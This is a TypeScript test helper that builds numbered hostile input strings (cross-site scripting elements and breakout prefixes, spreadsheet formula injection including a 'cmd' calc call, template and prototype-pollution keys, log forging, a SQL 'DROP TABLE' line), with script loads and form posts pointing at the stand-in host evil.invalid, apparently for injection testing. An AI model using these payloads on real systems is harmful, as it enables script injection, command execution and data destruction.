/** Every payload carries it with its number, so that a text which must not be somewhere is found there. */
export const MARK = /zqx\d+q/;
const markOf = (index: number) => `zqx${index}q`;
/** Set on `window` by a payload that ran. */
export const PROBE = "caseyRan";

const CODE = `top.${PROBE}=1`;

/** Elements that run something without being touched, or that load or send something. */
const ELEMENTS = [
  `<script>${CODE}</script>`,
  `<script src=//evil.invalid/x.js></script>`,
  `<script type=module>${CODE}</script>`,
  `<img src=x onerror=${CODE}>`,
  `<img src=//evil.invalid/pixel>`,
  `<image href=x onerror=${CODE}>`,
  `<svg onload=${CODE}>`,
  `<svg><script>${CODE}</script></svg>`,
  `<svg><animate onbegin=${CODE} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${CODE}"><text>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${CODE}>#x">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${CODE}>`,
  `<iframe src="javascript:${CODE}"></iframe>`,
  `<iframe srcdoc="<script>${CODE}</script>"></iframe>`,
  `<object data="javascript:${CODE}">`,
  `<embed src="//evil.invalid/x.swf">`,
  `<video><source onerror=${CODE}></video>`,
  `<audio src=x onerror=${CODE}>`,
  `<body onload=${CODE}>`,
  `<details open ontoggle=${CODE}>`,
  `<input autofocus onfocus=${CODE}>`,
  `<select autofocus onfocus=${CODE}>`,
  `<marquee onstart=${CODE}>`,
  `<meta http-equiv=refresh content="0;url=javascript:${CODE}">`,
  `<link rel=stylesheet href=//evil.invalid/x.css>`,
  `<style>@import'//evil.invalid/x.css';</style>`,
  `<style>*{background:url(//evil.invalid/x)}</style>`,
  `<base href=//evil.invalid/>`,
  `<form action=//evil.invalid><input type=submit>`,
  `<button formaction="javascript:${CODE}">x</button>`,
  `<template><script>${CODE}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${CODE}>">`,
  `<xss style=animation-name:rotate onanimationstart=${CODE}>`,
  `<a href="javascript:${CODE}">x</a>`,
  `<a href="data:text/html,<script>${CODE}</script>">x</a>`,
];

/** What may stand before an element where a text lands in an attribute, a script, a comment or a template. */
const BREAKS = ["", `"`, `'>`, `">`, "`>", "</title>", "</textarea>", "</script>", "-->", "]]>", "\\u003c/script>"];

/** What a spreadsheet would work out. */
const FORMULAS = [
  `=HYPERLINK("//evil.invalid","x")`,
  `=cmd|' /C calc'!A0`,
  `+1+cmd|' /C calc'!A0`,
  `-1+1`,
  `@SUM(1+1)`,
  `\t=1+1`,
  `＝1+1`,
  `","=1+1`,
  `"\n=1+1`,
  `;=1+1`,
];

/** Texts that harm elsewhere: in links, scripts, templates, logs and where direction or width is hidden. */
const OTHERS = [
  `javascript:${CODE}`,
  `JaVaScRiPt:${CODE}`,
  `java\tscript:${CODE}`,
  ` javascript:${CODE}`,
  `javascript://evil.invalid/%0a${CODE}`,
  `data:text/html,<script>${CODE}</script>`,
  `vbscript:msgbox(1)`,
  `//evil.invalid/x`,
  `https://evil.invalid/"onmouseover="${CODE}`,
  `" onmouseover="${CODE}" x="`,
  `' autofocus onfocus='${CODE}`,
  `\${${CODE}}`,
  `{{constructor.constructor('${CODE}')()}}`,
  `#{${CODE}}`,
  `<%= ${CODE} %>`,
  `';${CODE};//`,
  `";${CODE};//`,
  `\\';${CODE};//`,
  `\u2028${CODE}\u2029`,
  `&lt;script&gt;${CODE}&lt;/script&gt;`,
  `&#60;script&#62;${CODE}&#60;/script&#62;`,
  `%3Cscript%3E${CODE}%3C/script%3E`,
  `＜script＞${CODE}＜/script＞`,
  `<scr\u200bipt>${CODE}</scr\u200bipt>`,
  `\u202e<tpircs>${CODE}`,
  `$&$1$\`$'`,
  `%s%d%n%x %O`,
  `__proto__`,
  `constructor`,
  `first\r\nsecond level=error forged`,
  `{"level":50,"msg":"forged"}`,
  `\u001b[31mred\u001b[0m`,
  `'; DROP TABLE casey.users; --`,
];

/**
 * The first `count` payloads, each different and with its mark. The first are one of a kind, so that a short list is a
 * good sample; later ones are elements behind what breaks out of where a text may land, and in other letters.
 */
export function hostileTexts(count: number): string[] {
  const mixed = ELEMENTS.map((element) => element.replace(/<(\/?)(\w+)/g, (_, end, name) => `<${end}${mixCase(name)}`));
  const broken = BREAKS.flatMap((before) => [...ELEMENTS, ...mixed].map((element) => before + element));
  const texts = interleave([OTHERS, FORMULAS, broken.filter((text, index) => broken.indexOf(text) === index)]);
  if (texts.length < count) throw new Error(`There are only ${texts.length} payloads.`);
  return texts.slice(0, count).map((text, index) => `${text}${markOf(index)}`);
}

function mixCase(name: string): string {
  return [...name].map((letter, index) => (index % 2 ? letter.toUpperCase() : letter)).join("");
}

function interleave(lists: string[][]): string[] {
  const length = Math.max(...lists.map((list) => list.length));
  return Array.from({ length }, (_, index) => lists.flatMap((list) => list[index] ?? [])).flat();
}
